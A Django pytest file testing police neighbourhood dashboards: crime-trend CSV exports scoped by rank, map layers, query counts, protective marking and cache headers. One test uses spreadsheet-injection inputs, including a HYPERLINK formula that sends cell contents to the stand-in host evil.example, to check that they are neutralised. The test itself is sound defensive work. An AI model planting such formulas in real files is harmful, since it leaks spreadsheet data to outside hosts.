"""The team page and the neighbourhood dashboard: composed from the figures apps register,
within the user's scope, every table exported, the same queries whatever the data."""

from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from pcso import figures
from pcso.models import AuditEntry
from tests.intelligence.crime_data import crime

pytestmark = pytest.mark.django_db


def test_parse_period_reads_weeks_and_months():
    today = date(2026, 11, 26)
    assert figures.parse_period({}, today) == figures.Period("week", date(2026, 11, 23), date(2026, 11, 30))
    assert figures.parse_period({"week": "2026-02-11"}, today) == figures.Period(
        "week", date(2026, 2, 9), date(2026, 2, 16)
    )
    assert figures.parse_period({"month": "2024-02"}, today) == figures.Period(
        "month", date(2024, 2, 1), date(2024, 3, 1)
    )
    assert figures.parse_period({"month": "2024-13"}, today).kind == "week"
    assert figures.parse_period({"week": "9999-01-01"}, today).start == date(2026, 11, 23)
    assert figures.month(date(2024, 12, 5)).next == figures.Period(
        "month", date(2025, 1, 1), date(2025, 2, 1)
    )
    assert figures.week(date(2026, 11, 26)).previous.start == date(2026, 11, 16)


@pytest.fixture
def crimes(team, other_team, outside_team):
    """West: 3 burglaries in January 2024, 2 ASB and 1 burglary in March. East: 4 robberies in
    March. North (another command): 7 burglaries in March."""
    west, east, north = (t.neighbourhoods.get() for t in (team, other_team, outside_team))
    for _ in range(3):
        crime(west, "51.5101", "-0.0984", month=date(2024, 1, 1))
    crime(west, "51.5101", "-0.0984", crime_type="Anti-social behaviour", month=date(2024, 3, 1))
    crime(west, "51.5120", "-0.1050", crime_type="Anti-social behaviour", month=date(2024, 3, 1))
    crime(west, "51.5120", "-0.1050", month=date(2024, 3, 1))
    for _ in range(4):
        crime(east, "51.5130", "-0.0800", crime_type="Robbery", month=date(2024, 3, 1))
    for _ in range(7):
        crime(north, "51.5300", "-0.1000", month=date(2024, 3, 1))


def trend(client, month="2024-06"):
    response = client.get(
        reverse("dashboard-export", args=["neighbourhoods", "crime-trend"]) + f"?month={month}"
    )
    assert response.status_code == 200
    marking, *lines = b"".join(response.streaming_content).decode().splitlines()
    assert marking == "OFFICIAL-SENSITIVE"
    return lines


def test_crime_trend_by_month_and_type_within_the_inspectors_command(crimes, client_for, inspector):
    lines = trend(client_for(inspector))

    assert lines == [
        "Month,Anti-social behaviour,Burglary,Robbery,Total",
        "2024-01,0,3,0,3",
        "2024-03,2,1,4,7",
        "Contains public sector information licensed under the Open Government Licence v3.0.",
    ]
    entry = AuditEntry.objects.get(action="dashboard.neighbourhoods.crime-trend.exported")
    assert entry.changes == {"rows": 2, "period": "month=2024-06"}


def test_crime_trend_of_a_sergeant_is_their_team_only(crimes, client_for, sergeant, other_inspector):
    assert trend(client_for(sergeant))[1:3] == ["2024-01,0,3,3", "2024-03,2,1,3"]
    assert trend(client_for(other_inspector))[1:2] == ["2024-03,7,7"]


def test_crime_trend_ends_with_the_period(crimes, client_for, inspector):
    assert trend(client_for(inspector), month="2024-02")[1:] == [
        "2024-01,3,3",
        "Contains public sector information licensed under the Open Government Licence v3.0.",
    ]


def test_neighbourhood_dashboard_shows_chart_table_map_layers_and_attribution(crimes, client_for, inspector):
    page = client_for(inspector).get(reverse("neighbourhood-dashboard") + "?month=2024-03").content.decode()

    assert 'data-chart="stacked"' in page
    assert 'canvas data-chart-for="table-crime-trend"' in page
    assert '<td data-value="4">4</td>' in page
    assert "data-dashboard-map" in page
    assert 'data-layer-kind="areas"' in page
    assert 'data-layer-url="/intelligence/crime-data/points.geojson?start=2024-01&amp;end=2024-03"' in page
    assert "Open Government Licence v3.0" in page


def test_crime_points_are_grouped_by_snap_point_within_scope(crimes, client_for, sergeant):
    data = (
        client_for(sergeant).get(reverse("intelligence:crime-points") + "?start=2024-01&end=2024-03").json()
    )

    assert [(f["geometry"]["coordinates"], f["properties"]["count"]) for f in data["features"]] == [
        ([-0.0984, 51.5101], 4),
        ([-0.105, 51.512], 2),
    ]


def test_boundaries_layer_holds_the_users_neighbourhoods(crimes, client_for, sergeant, inspector):
    def names(user):
        features = client_for(user).get(reverse("dashboard-boundaries")).json()["features"]
        return sorted(f["properties"]["name"] for f in features)

    assert names(sergeant) == ["Farringdon"]
    assert names(inspector) == ["Aldgate", "Farringdon"]


def test_neighbourhood_dashboard_queries_do_not_grow_with_data(crimes, client_for, inspector, team):
    client = client_for(inspector)
    url = reverse("neighbourhood-dashboard") + "?month=2024-03"
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    west = team.neighbourhoods.get()
    for month in range(1, 13):
        for kind in ("Burglary", "Drugs", "Robbery"):
            crime(west, "51.5111", "-0.1011", crime_type=kind, month=date(2023, month, 1))

    with CaptureQueriesContext(connection) as many:
        client.get(url)

    assert len(many) == len(few)


def test_a_crime_type_written_as_a_formula_is_no_formula_in_the_trend_header(team, client_for, inspector):
    """A crime type from an uploaded file becomes a column header: it is neutralised like a cell,
    also behind leading spaces and in its full-width form."""
    west = team.neighbourhoods.get()
    for crime_type in ('=HYPERLINK("http://evil.example/?"&A1,"open")', "  @SUM(A1)", "\uff1d1+1"):
        crime(west, "51.5101", "-0.0984", crime_type=crime_type, month=date(2024, 3, 1))
    lines = trend(client_for(inspector), month="2024-03")
    assert lines[:2] == [
        'Month,\'  @SUM(A1),"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",\'\uff1d1+1,Total',
        "2024-03,1,1,1,3",
    ]


# Every dashboard CSV carries the protective marking (issue 20, item 7)


def test_every_dashboard_csv_is_marked_official_sensitive_and_keeps_no_copy(crimes, client_for, inspector):
    from pcso import figures

    tables = [("team", "officers"), ("neighbourhoods", "guarantee")] + [
        (entry.page, entry.key) for entry in figures.SECTIONS
    ]
    client = client_for(inspector)
    answers = {}
    for page, key in tables:
        response = client.get(reverse("dashboard-export", args=[page, key]))
        first = b"".join(response.streaming_content).decode().splitlines()[0]
        answers[f"{page}/{key}"] = (response.status_code, first, response["Cache-Control"])
    assert len(answers) == 11
    expected = (200, "OFFICIAL-SENSITIVE", "max-age=0, no-cache, no-store, must-revalidate, private")
    assert answers == dict.fromkeys(answers, expected)
